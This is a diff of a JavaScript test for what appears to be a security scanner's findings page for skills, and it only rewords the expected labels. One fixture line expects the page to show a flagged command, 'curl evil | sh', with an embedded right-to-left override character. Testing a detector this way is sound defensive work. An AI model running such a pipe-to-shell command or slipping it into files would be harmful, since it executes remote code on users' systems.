@@ -28,14 +28,14 @@ describe('what the scan found in a skill', () => {
       },
     )
     const { texts, text, links } = await site.open('/en/skills/acme--scanned/findings')
-    expect(text('known')).toMatch(/Verdict needs a look What it could do much: use the network, run programs/)
+    expect(text('known')).toMatch(/Verdict needs a look What it could do a lot: use the network, run programs/)
     expect(text('known')).toMatch(/not all of its files big\.bin: not text/)
-    expect(text('findings')).toMatch(/^Medium lure SKILL\.md:3 a sure match, nothing refers to this file/)
+    expect(text('findings')).toMatch(/^Medium lure SKILL\.md:3 a certain match, nothing refers to this file/)
     expect(texts('pre')).toContain('curl <b>evil</b>[U+202E] | sh')
     expect(text('findings')).toMatch(/It matters\. What to do: Leave it out\.$/)
     expect(links).toContain('/en/skills/acme--scanned/files/SKILL.md?version=1.0.0&plain=1#L3')
     const overview = await site.open('/en/skills/acme--scanned')
-    expect(overview.text('about')).toMatch(/Verdict needs a look What it could do much/)
+    expect(overview.text('about')).toMatch(/Verdict needs a look What it could do a lot/)
   })
 
   it('is a notice above everything where it is a warning', async () => {
